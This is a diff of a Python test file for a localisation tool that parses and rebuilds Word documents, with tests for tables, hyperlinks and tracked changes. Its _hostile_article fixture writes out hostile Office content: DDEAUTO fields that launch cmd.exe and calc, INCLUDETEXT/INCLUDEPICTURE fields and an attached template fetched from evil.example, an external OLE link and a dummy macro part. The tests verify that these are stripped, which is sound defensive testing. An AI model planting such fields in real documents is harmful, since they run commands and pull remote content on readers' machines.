@@ -15,16 +15,25 @@ import sys
 import zipfile
 import zlib
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
 from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 
-from l10n.po.files import load_catalog
 from l10n.formats.docx import parse_docx
+from l10n.po.files import load_catalog
 
 from .conftest import msgfmt_check, po, run_l10n
 from .test_publisher import EPOCH, msgids, new_workspace, translate
+
+if TYPE_CHECKING:  # python-docx and numpy load inside the tests that use them
+    import numpy as np
+    from docx.document import Document as WordDocument
+    from docx.oxml.table import CT_Tc
+    from docx.oxml.xmlchemy import BaseOxmlElement
+    from docx.text.paragraph import Paragraph
+    from docx.text.run import Run
 
 W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
 
@@ -32,7 +41,7 @@ W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
 # --- making Word documents ------------------------------------------------------------------------
 
 
-def _word():  # type: ignore[no-untyped-def]
+def _word() -> WordDocument:
     """A new document with Word's "Hyperlink" character style (python-docx's template has none)."""
     import docx
     from docx.enum.style import WD_STYLE_TYPE
@@ -45,7 +54,7 @@ def _word():  # type: ignore[no-untyped-def]
     return document
 
 
-def _xml(fragment: str):  # type: ignore[no-untyped-def]
+def _xml(fragment: str) -> BaseOxmlElement:
     """A WordprocessingML fragment as python-docx elements (w: and r: prefixes declared)."""
     from docx.oxml.parser import parse_xml
 
@@ -57,13 +66,16 @@ def _xml(fragment: str):  # type: ignore[no-untyped-def]
     return parse_xml(re.sub(r"^<([\w:]+)", lambda m: f"<{m.group(1)} {namespaces}", fragment, count=1))
 
 
-def _link(paragraph, url: str, text: str) -> None:  # type: ignore[no-untyped-def]
+def _link(paragraph: Paragraph, url: str, text: str) -> None:
     """A hyperlink as Word writes it: its relationship, its run in the Hyperlink style."""
     from docx.opc.constants import RELATIONSHIP_TYPE
 
     rid = paragraph.part.relate_to(url, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
     paragraph._p.append(
-        _xml(f'<w:hyperlink r:id="{rid}"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr><w:t>{text}</w:t></w:r></w:hyperlink>')
+        _xml(
+            f'<w:hyperlink r:id="{rid}"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr>'
+            f"<w:t>{text}</w:t></w:r></w:hyperlink>"
+        )
     )
 
 
@@ -74,7 +86,21 @@ CELLS = [
     ["Aktobe", "6 Mt", "Flat"],
     ["Total", "63 Mt", ""],  # the last two cells merged
 ]
-CELL_ORDER = ["Region", "Output", "Change", "Atyrau", "45 Mt", "Up 3%", "12 Mt", "Down 1%", "Aktobe", "6 Mt", "Flat", "Total", "63 Mt"]
+CELL_ORDER = [
+    "Region",
+    "Output",
+    "Change",
+    "Atyrau",
+    "45 Mt",
+    "Up 3%",
+    "12 Mt",
+    "Down 1%",
+    "Aktobe",
+    "6 Mt",
+    "Flat",
+    "Total",
+    "63 Mt",
+]
 LINKED = "<a1>The report</a1> was published on Monday."
 
 
@@ -103,9 +129,19 @@ def _table_article(path: Path) -> None:
 RU = {
     "Oil output in 2012": "Добыча нефти в 2012 году",
     LINKED: "<a1>Доклад</a1> опубликован в понедельник.",
-    "Region": "Регион", "Output": "Добыча", "Change": "Изменение", "Atyrau": "Атырау", "45 Mt": "45 млн т",
-    "Up 3%": "Рост на 3%", "12 Mt": "12 млн т", "Down 1%": "Спад на 1%", "Aktobe": "Актобе", "6 Mt": "6 млн т",
-    "Flat": "Без изменений", "Total": "Итого", "63 Mt": "63 млн т",
+    "Region": "Регион",
+    "Output": "Добыча",
+    "Change": "Изменение",
+    "Atyrau": "Атырау",
+    "45 Mt": "45 млн т",
+    "Up 3%": "Рост на 3%",
+    "12 Mt": "12 млн т",
+    "Down 1%": "Спад на 1%",
+    "Aktobe": "Актобе",
+    "6 Mt": "6 млн т",
+    "Flat": "Без изменений",
+    "Total": "Итого",
+    "63 Mt": "63 млн т",
     "Figures are preliminary.": "Данные предварительные.",
 }
 
@@ -119,7 +155,11 @@ def table_ws(tmp_path: Path) -> Path:
     return root
 
 
-def _styles(run) -> str | None:  # type: ignore[no-untyped-def]
+def _points(run: Run) -> float | None:
+    return None if run.font.size is None else run.font.size.pt
+
+
+def _styles(run: Run) -> str | None:
     style = run._r.find(f"{W}rPr/{W}rStyle")
     return style.get(f"{W}val") if style is not None else None
 
@@ -151,11 +191,18 @@ def test_a_word_table_of_many_rows_builds_and_round_trips(table_ws: Path) -> Non
         ["Актобе", "6 млн т", "Без изменений"],
         ["Итого", "63 млн т", "63 млн т"],
     ]
-    assert [p.text for p in built.paragraphs] == ["Добыча нефти в 2012 году", "Доклад опубликован в понедельник.", "Данные предварительные."]
+    assert [p.text for p in built.paragraphs] == [
+        "Добыча нефти в 2012 году",
+        "Доклад опубликован в понедельник.",
+        "Данные предварительные.",
+    ]
+
+
+Merge = tuple[tuple[int, int], tuple[int, int]]  # two corners of a rectangle of cells
 
 
 @st.composite
-def _tables(draw):  # type: ignore[no-untyped-def]
+def _tables(draw: st.DrawFn) -> tuple[int, int, list[Merge]]:
     """A table's size and a few merges (rectangles, some overlapping: python-docx refuses those)."""
     rows, cols = draw(st.integers(1, 6)), draw(st.integers(1, 5))
     corner = st.tuples(st.integers(0, rows - 1), st.integers(0, cols - 1))
@@ -164,7 +211,7 @@ def _tables(draw):  # type: ignore[no-untyped-def]
 
 @given(_tables())
 @settings(max_examples=60, deadline=None)
-def test_any_merged_table_is_read_cell_by_cell_once(table: tuple[int, int, list]) -> None:  # type: ignore[type-arg]
+def test_any_merged_table_is_read_cell_by_cell_once(table: tuple[int, int, list[Merge]]) -> None:
     """Whatever is merged: the reader gives each cell python-docx sees once, row by row, and the
     same on every read."""
     from docx.exceptions import InvalidSpanError
@@ -175,7 +222,7 @@ def test_any_merged_table_is_read_cell_by_cell_once(table: tuple[int, int, list]
     for r in range(rows):
         for c in range(cols):
             grid.cell(r, c).text = f"Cell {r}-{c}."
-    seen: list = []  # type: ignore[type-arg]  # python-docx's cells by element, as the grid shows them
+    seen: list[CT_Tc] = []  # python-docx's cells by element, as the grid shows them
     try:
         for a, b in merges:
             with contextlib.suppress(InvalidSpanError):
@@ -200,17 +247,24 @@ def test_odd_tables_are_read_whole(tmp_path: Path) -> None:
     document = _word()
     body = document.element.body
     for fragment in (
-        '<w:tbl><w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p><w:r><w:t>Orphan.</w:t></w:r></w:p></w:tc><w:tc><w:tcPr>'
-        '<w:gridSpan w:val="x"/></w:tcPr><w:p><w:r><w:t>Bad span.</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc/></w:tr></w:tbl>',
-        '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="2"/></w:trPr><w:tc><w:tbl><w:tr><w:tc><w:p><w:r><w:t>Inner.</w:t></w:r></w:p>'
-        "</w:tc></w:tr></w:tbl><w:p><w:r><w:t>Outer.</w:t></w:r></w:p></w:tc></w:tr></w:tbl>",
+        "<w:tbl><w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p><w:r><w:t>Orphan.</w:t></w:r></w:p></w:tc>"
+        '<w:tc><w:tcPr><w:gridSpan w:val="x"/></w:tcPr><w:p><w:r><w:t>Bad span.</w:t></w:r></w:p></w:tc>'
+        "</w:tr><w:tr><w:tc/></w:tr></w:tbl>",
+        '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="2"/></w:trPr><w:tc>'
+        "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Inner.</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
+        "<w:p><w:r><w:t>Outer.</w:t></w:r></w:p></w:tc></w:tr></w:tbl>",
     ):
         body.insert(len(body) - 1, _xml(fragment))
     buffer = io.BytesIO()
     document.save(buffer)
     blocks = parse_docx("odd", buffer.getvalue()).blocks
     assert [b.segments[0].msgid for b in blocks] == ["Orphan.", "Bad span.", "Inner.", "Outer."]
-    assert [(b.cell.table, b.cell.row, b.cell.column) for b in blocks if b.cell] == [(0, 0, 0), (0, 0, 1), (1, 0, 2), (1, 0, 2)]
+    assert [(b.cell.table, b.cell.row, b.cell.column) for b in blocks if b.cell] == [
+        (0, 0, 0),
+        (0, 0, 1),
+        (1, 0, 2),
+        (1, 0, 2),
+    ]
 
 
 # --- issue 28.2: the link's style stays on the link ------------------------------------------------
@@ -226,7 +280,7 @@ def test_only_the_link_takes_the_hyperlink_style_in_the_word_edition(table_ws: P
     assert all(_styles(r) == "Hyperlink" for r in link.runs)
     outside = [r for r in paragraph.runs if r.text.strip()]  # python-docx: the runs outside links
     assert [r.text for r in outside] == [" опубликован в понедельник."]
-    assert all(_styles(r) is None and r.font.name == "Georgia" and r.font.size.pt == 13 for r in outside)
+    assert all(_styles(r) is None and r.font.name == "Georgia" and _points(r) == 13 for r in outside)
 
 
 def test_a_hyperlink_field_is_a_link_in_both_editions(tmp_path: Path) -> None:
@@ -235,16 +289,26 @@ def test_a_hyperlink_field_is_a_link_in_both_editions(tmp_path: Path) -> None:
 
     root = new_workspace(tmp_path)
     document = _word()
-    document.element.body.insert(0, _xml(
-        '<w:p><w:r><w:t xml:space="preserve">Read </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-        '<w:r><w:instrText xml:space="preserve"> HYPERLINK "https://example.kz/plan" \\o "tip" </w:instrText></w:r>'
-        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr><w:t>the plan</w:t></w:r>'
-        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t xml:space="preserve"> now.</w:t></w:r></w:p>'
-    ))
+    document.element.body.insert(
+        0,
+        _xml(
+            '<w:p><w:r><w:t xml:space="preserve">Read </w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            "<w:r>"
+            '<w:instrText xml:space="preserve"> HYPERLINK "https://example.kz/plan" \\o "tip" </w:instrText>'
+            "</w:r>"
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+            '<w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr><w:t>the plan</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+            '<w:r><w:t xml:space="preserve"> now.</w:t></w:r></w:p>'
+        ),
+    )
     document.save(str(root / "source_texts" / "plan.docx"))
     run_l10n("extract", cwd=root)
     assert msgids(root, "plan") == ["Read <a1>the plan</a1> now."]
-    translate(root, "ru", "plan", {"Read <a1>the plan</a1> now.": "Прочтите <a1>план</a1> сейчас."}.__getitem__)
+    translate(
+        root, "ru", "plan", {"Read <a1>the plan</a1> now.": "Прочтите <a1>план</a1> сейчас."}.__getitem__
+    )
     run_l10n("build", "--lang", "ru", cwd=root)
     paragraph = docx.Document(str(root / "editions" / "ru" / "plan.docx")).paragraphs[0]
     assert [(link.url, link.text) for link in paragraph.hyperlinks] == [("https://example.kz/plan", "план")]
@@ -265,10 +329,14 @@ def test_the_html_edition_of_a_word_article_has_its_table_and_its_link(table_ws:
         [table] = page.css("main table")
         rows = [[td.text() for td in tr.css("td")] for tr in table.css("tr")]
         assert len(rows) == 5 and rows[0][0] == region and len(rows[2]) == 2  # the merged cell spans
-        assert table.css_first("td[rowspan='2']") is not None and table.css_first("td[colspan='2']") is not None
+        assert (
+            table.css_first("td[rowspan='2']") is not None and table.css_first("td[colspan='2']") is not None
+        )
         [link] = page.css("main a[href='https://example.kz/report']")
         assert link.text() == words
-        assert [li.text() for li in page.css("main li")] == [RU["Figures are preliminary."] if lang == "ru" else "Figures are preliminary."]
+        assert [li.text() for li in page.css("main li")] == [
+            RU["Figures are preliminary."] if lang == "ru" else "Figures are preliminary."
+        ]
 
 
 def test_a_link_to_script_keeps_its_words_not_its_link(tmp_path: Path) -> None:
@@ -294,23 +362,35 @@ def _png() -> bytes:
     def chunk(kind: bytes, body: bytes) -> bytes:
         return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
 
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
+        + chunk(b"IDAT", zlib.compress(b"\0\0\0\0"))
+        + chunk(b"IEND", b"")
+    )
 
 
 WRAPPED = [
     # a tracked insertion, with a tracked deletion beside it
     '<w:p><w:r><w:t xml:space="preserve">The minister said that prices will rise</w:t></w:r>'
     '<w:del w:id="1" w:author="A"><w:r><w:delText xml:space="preserve"> soon</w:delText></w:r></w:del>'
-    '<w:ins w:id="2" w:author="A"><w:r><w:t xml:space="preserve"> on Monday</w:t></w:r></w:ins><w:r><w:t>.</w:t></w:r></w:p>',
+    '<w:ins w:id="2" w:author="A"><w:r><w:t xml:space="preserve"> on Monday</w:t></w:r></w:ins>'
+    "<w:r><w:t>.</w:t></w:r></w:p>",
     # a content control and a smart tag inside a paragraph
-    '<w:p><w:r><w:t xml:space="preserve">Talks open in </w:t></w:r><w:sdt><w:sdtPr/><w:sdtContent><w:r><w:t>Astana</w:t></w:r>'
-    '</w:sdtContent></w:sdt><w:r><w:t xml:space="preserve"> on </w:t></w:r><w:smartTag w:uri="urn:x" w:element="date">'
-    "<w:r><w:t>Friday</w:t></w:r></w:smartTag><w:r><w:t>.</w:t></w:r></w:p>",
+    '<w:p><w:r><w:t xml:space="preserve">Talks open in </w:t></w:r>'
+    "<w:sdt><w:sdtPr/><w:sdtContent><w:r><w:t>Astana</w:t></w:r></w:sdtContent></w:sdt>"
+    '<w:r><w:t xml:space="preserve"> on </w:t></w:r>'
+    '<w:smartTag w:uri="urn:x" w:element="date"><w:r><w:t>Friday</w:t></w:r></w:smartTag>'
+    "<w:r><w:t>.</w:t></w:r></w:p>",
     # a simple field's shown text, and hidden text
-    '<w:p><w:r><w:t xml:space="preserve">This is page </w:t></w:r><w:fldSimple w:instr=" PAGE "><w:r><w:t>3</w:t></w:r></w:fldSimple>'
-    '<w:r><w:rPr><w:vanish/></w:rPr><w:t xml:space="preserve"> (editor: check this)</w:t></w:r><w:r><w:t>.</w:t></w:r></w:p>',
+    '<w:p><w:r><w:t xml:space="preserve">This is page </w:t></w:r>'
+    '<w:fldSimple w:instr=" PAGE "><w:r><w:t>3</w:t></w:r></w:fldSimple>'
+    '<w:r><w:rPr><w:vanish/></w:rPr><w:t xml:space="preserve"> (editor: check this)</w:t></w:r>'
+    "<w:r><w:t>.</w:t></w:r></w:p>",
     # a content control around a whole paragraph
-    '<w:sdt><w:sdtPr/><w:sdtContent><w:p><w:r><w:t>Prices were stable in May.</w:t></w:r></w:p></w:sdtContent></w:sdt>',
+    "<w:sdt><w:sdtPr/><w:sdtContent>"
+    "<w:p><w:r><w:t>Prices were stable in May.</w:t></w:r></w:p>"
+    "</w:sdtContent></w:sdt>",
 ]
 WRAPPED_RU = {
     "The minister said that prices will rise on Monday.": "Министр заявил, что цены вырастут в понедельник.",
@@ -361,35 +441,67 @@ def _hostile_article(path: Path) -> None:
     document = _word()
     document.add_paragraph("Prices rose in March.")
     body = document.element.body
-    fields = (
-        '<w:p><w:r><w:t xml:space="preserve">Exports grew </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
-        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>fast</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    fields: tuple[str, ...] = (
+        '<w:p><w:r><w:t xml:space="preserve">Exports grew </w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        "<w:r>"
+        '<w:instrText xml:space="preserve">'
+        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
+        "</w:instrText>"
+        "</w:r>"
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>fast</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
         "<w:r><w:t>.</w:t></w:r></w:p>",
         '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> dde </w:instrText></w:r>'
-        '<w:r><w:instrText>"cmd" "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
-        '<w:p><w:fldSimple w:instr=\' INCLUDETEXT "http://evil.example/x.docx" \'><w:r><w:t>Included text.</w:t></w:r></w:fldSimple></w:p>',
-        '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example/track.png" \\d \'><w:r><w:t>Picture.</w:t></w:r></w:fldSimple></w:p>',
+        '<w:r><w:instrText>"cmd" "/c calc"</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+        "<w:p><w:fldSimple w:instr=' INCLUDETEXT \"http://evil.example/x.docx\" '>"
+        "<w:r><w:t>Included text.</w:t></w:r></w:fldSimple></w:p>",
+        "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/track.png\" \\d '>"
+        "<w:r><w:t>Picture.</w:t></w:r></w:fldSimple></w:p>",
     )
     ole = document.part.relate_to("file:///C:/secret/book.xlsx", RT.OLE_OBJECT, is_external=True)
     fields += (
-        f'<w:p><w:r><w:object><v:shape id="s1" style="width:10pt;height:10pt"/><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
-        f'ShapeID="s1" DrawAspect="Content" r:id="{ole}" UpdateMode="Always"/></w:object></w:r><w:r><w:t>Linked sheet.</w:t></w:r></w:p>',
+        '<w:p><w:r><w:object><v:shape id="s1" style="width:10pt;height:10pt"/>'
+        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
+        f'ShapeID="s1" DrawAspect="Content" r:id="{ole}" UpdateMode="Always"/></w:object></w:r>'
+        "<w:r><w:t>Linked sheet.</w:t></w:r></w:p>",
     )
     for fragment in fields:
         body.insert(len(body) - 1, _xml(fragment))
     settings = document.part._settings_part
-    template = settings.relate_to("https://evil.example/template.dotm", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", is_external=True)
+    template = settings.relate_to(
+        "https://evil.example/template.dotm",
+        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
+        is_external=True,
+    )
     settings.element.append(_xml(f'<w:attachedTemplate r:id="{template}"/>'))
-    dde = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
-    document.sections[0].header.paragraphs[0]._p.extend(list(_xml(f"<w:p>{dde}</w:p>")))  # a header: python-docx's own part
+    dde = (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText> DDEAUTO cmd "/c calc" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+    document.sections[0].header.paragraphs[0]._p.extend(
+        list(_xml(f"<w:p>{dde}</w:p>"))
+    )  # a header: python-docx's own part
     footnotes = (  # a part python-docx keeps as bytes
-        '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1"><w:p>'
+        '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        '<w:footnote w:id="1"><w:p>'
         f"{dde}<w:r><w:t>A note.</w:t></w:r></w:p></w:footnote></w:footnotes>"
     ).encode()
-    notes = Part(PackURI("/word/footnotes.xml"), "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml", footnotes, document.part.package)
+    notes = Part(
+        PackURI("/word/footnotes.xml"),
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
+        footnotes,
+        document.part.package,
+    )
     document.part.relate_to(notes, RT.FOOTNOTES)
-    macros = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"Attribute VB_Name\0" * 64, document.part.package)
+    macros = Part(
+        PackURI("/word/vbaProject.bin"),
+        "application/vnd.ms-office.vbaProject",
+        b"Attribute VB_Name\0" * 64,
+        document.part.package,
+    )
     document.part.relate_to(macros, VBA)
     document.save(str(path))
 
@@ -401,27 +513,47 @@ def test_editions_carry_no_macros_remote_parts_or_dangerous_fields(tmp_path: Pat
     _hostile_article(root / "source_texts" / "story.docx")
     with zipfile.ZipFile(root / "source_texts" / "story.docx") as source:  # the hostile parts are there
         assert "word/vbaProject.bin" in source.namelist()
-        assert all(b"DDEAUTO" in source.read(f"word/{name}.xml") for name in ("document", "header1", "footnotes"))
+        assert all(
+            b"DDEAUTO" in source.read(f"word/{name}.xml") for name in ("document", "header1", "footnotes")
+        )
     run_l10n("extract", cwd=root)
     ids = msgids(root, "story")
-    assert ids == ["Prices rose in March.", "Exports grew fast.", "Included text.", "Picture.", "<img1/>Linked sheet."]
+    assert ids == [
+        "Prices rose in March.",
+        "Exports grew fast.",
+        "Included text.",
+        "Picture.",
+        "<img1/>Linked sheet.",
+    ]
     translate(root, "ru", "story", lambda m: "Перевод: " + m)
     run_l10n("build", "--lang", "ru", cwd=root)
     edition = root / "editions" / "ru" / "story.docx"
-    with zipfile.ZipFile(edition) as built:
-        names = built.namelist()
-        xml = b"".join(built.read(n) for n in names if n.endswith((".xml", ".rels")))
+    with zipfile.ZipFile(edition) as archive:
+        names = archive.namelist()
+        xml = b"".join(archive.read(n) for n in names if n.endswith((".xml", ".rels")))
     assert not [n for n in names if "vba" in n.lower() or n.endswith(".bin")]
     for rels in re.findall(rb"<Relationship [^>]*>", xml):
         assert b'TargetMode="External"' not in rels or b"/hyperlink" in rels, rels
     assert b"attachedTemplate" not in xml and b"OLEObject" not in xml and b"evil.example" not in xml
     assert b"<v:shape" in xml  # the OLE object's picture stays, without the object
     assert b"A note." in xml
-    for word in (b"DDEAUTO", b"calc", b"INCLUDETEXT", b"INCLUDEPICTURE", b"instrText", b"fldChar", b"fldSimple"):
+    for word in (
+        b"DDEAUTO",
+        b"calc",
+        b"INCLUDETEXT",
+        b"INCLUDEPICTURE",
+        b"instrText",
+        b"fldChar",
+        b"fldSimple",
+    ):
         assert word not in xml, word
     built = docx.Document(str(edition))  # still a document Word and python-docx open
     assert [p.text for p in built.paragraphs if p.text] == [
-        "Перевод: Prices rose in March.", "Перевод: Exports grew fast.", "Перевод: Included text.", "Перевод: Picture.", "Перевод: Linked sheet."
+        "Перевод: Prices rose in March.",
+        "Перевод: Exports grew fast.",
+        "Перевод: Included text.",
+        "Перевод: Picture.",
+        "Перевод: Linked sheet.",
     ]
 
 
@@ -457,7 +589,9 @@ def test_a_zip_bomb_docx_is_refused_in_one_line(tmp_path: Path, inflated: int) -
         "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); sys.exit(r.returncode)"
     )
     for command in ("extract", "build"):
-        result = subprocess.run([sys.executable, "-c", probe, command], cwd=root, capture_output=True, text=True, timeout=120)
+        result = subprocess.run(
+            [sys.executable, "-c", probe, command], cwd=root, capture_output=True, text=True, timeout=120
+        )
         assert result.returncode == 2, result.stderr
         lines = [line for line in result.stderr.splitlines() if line.strip()]
         assert "bomb.docx" in lines[0] and "expands to" in lines[0] and "Traceback" not in result.stderr
@@ -493,31 +627,47 @@ def _office() -> str | None:
 def test_libreoffice_shows_the_link_style_on_the_link_only(table_ws: Path, tmp_path: Path) -> None:
     """The ru edition printed to PDF by LibreOffice: the words drawn in the Hyperlink style's blue
     are the link's, and the PDF has the link."""
-    import numpy as np
-
+    office = _office()
+    assert office is not None  # the skipif above
     run_l10n("build", "--lang", "ru", cwd=table_ws, env=EPOCH)
     out = tmp_path / "pdf"
     subprocess.run(
-        [_office(), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "pdf",
-         "--outdir", str(out), str(table_ws / "editions" / "ru" / "output.docx")],
-        check=True, capture_output=True, timeout=180,
+        [
+            office,
+            f"-env:UserInstallation=file://{tmp_path}/profile",
+            "--headless",
+            "--convert-to",
+            "pdf",
+            "--outdir",
+            str(out),
+            str(table_ws / "editions" / "ru" / "output.docx"),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
     )
     pdf = out / "output.pdf"
     assert b"https://example.kz/report" in pdf.read_bytes()  # the link annotation
-    boxes = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
+    boxes = subprocess.run(
+        ["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True
+    ).stdout
     subprocess.run(["pdftoppm", "-r", "144", str(pdf), str(tmp_path / "page")], check=True)
     blue = []
     for page_number, page in enumerate(re.findall(r"<page .*?</page>", boxes, re.S), start=1):
         [image] = tmp_path.glob(f"page-{page_number}.ppm") or tmp_path.glob(f"page-0{page_number}.ppm")
         pixels = _ppm(image.read_bytes())
-        for x0, y0, x1, y1, word in re.findall(r'xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)<', page):
-            box = pixels[int(float(y0) * 2) : int(float(y1) * 2) + 1, int(float(x0) * 2) : int(float(x1) * 2) + 1].astype(int)
+        for x0, y0, x1, y1, word in re.findall(
+            r'xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)<', page
+        ):
+            box = pixels[
+                int(float(y0) * 2) : int(float(y1) * 2) + 1, int(float(x0) * 2) : int(float(x1) * 2) + 1
+            ].astype(int)
             if ((box[..., 2] - box[..., 0] > 80) & (box[..., 2] > 150)).any():
                 blue.append(word)
     assert blue == ["Доклад"], blue
 
 
-def _ppm(data: bytes):  # type: ignore[no-untyped-def]
+def _ppm(data: bytes) -> np.ndarray:
     """A binary PPM (what pdftoppm writes) as an array of RGB rows."""
     import numpy as np
 
@@ -525,3 +675,15 @@ def _ppm(data: bytes):  # type: ignore[no-untyped-def]
     assert header is not None
     width, height = int(header.group(1)), int(header.group(2))
     return np.frombuffer(data[header.end() :], dtype=np.uint8).reshape(height, width, 3)
+
+
+def test_control_characters_in_a_translation_do_not_break_the_word_edition(table_ws: Path) -> None:
+    """PO text may carry \\a, \\v, \\f (msgfmt's escapes); XML 1.0 cannot: the Word edition drops
+    them (a vertical tab reads as a space) instead of failing the article."""
+    import docx
+
+    translate(table_ws, "ru", "output", lambda m: "Перевод\x0bс\x07 управляющими: " + m)
+    result = run_l10n("build", "--lang", "ru", cwd=table_ws, env=EPOCH)
+    edition = docx.Document(str(table_ws / "editions" / "ru" / "output.docx"))
+    text = "\n".join(p.text for p in edition.paragraphs)
+    assert "Перевод с управляющими" in text and "\x07" not in text, result.stderr
